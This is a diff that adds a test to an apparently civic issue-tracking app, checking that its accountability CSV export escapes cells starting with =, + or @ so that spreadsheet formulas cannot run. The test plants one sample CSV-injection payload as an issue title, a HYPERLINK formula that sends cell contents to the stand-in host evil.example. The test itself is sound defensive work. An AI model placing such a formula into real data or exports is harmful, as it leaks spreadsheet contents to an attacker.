@@ -131,3 +131,18 @@ def test_the_dashboard_needs_the_same_queries_whatever_the_data_size(city, clien
                 respond(official_of_water_agency, issue, status="in_progress", body="On it.",
                         commitment=CommitmentDraft(what="Fix", due_date=(T0 + dt.timedelta(days=9)).date()))
     assert count() == few
+
+
+def test_the_csv_does_not_carry_formulas_from_titles_or_names(issue_factory, resident_of_manggarai, areas, client,
+                                                              water_agency, official_of_water_agency):
+    water_agency.name = "@Dinas SDA"
+    water_agency.save(update_fields=["name"])
+    issue = clocked(issue_factory(resident_of_manggarai, area=areas["manggarai"], category="flooding",
+                                  title='=HYPERLINK("http://evil.example/?"&A1, "Banjir")'))
+    with time_machine.travel(NOW, tick=False):
+        download = client.get("/accountability/accountability.csv")
+    rows = list(csv.reader(io.StringIO(download.content.decode())))
+    assert ["agency", "'@Dinas SDA", "1", "1", "", "0", "", "0", "0", "0"] in rows
+    overdue = next(r for r in rows if r and r[0] == str(issue.pk))
+    assert overdue[1] == "'" + issue.title
+    assert not any(cell.startswith(("=", "+", "@")) for r in rows for cell in r)
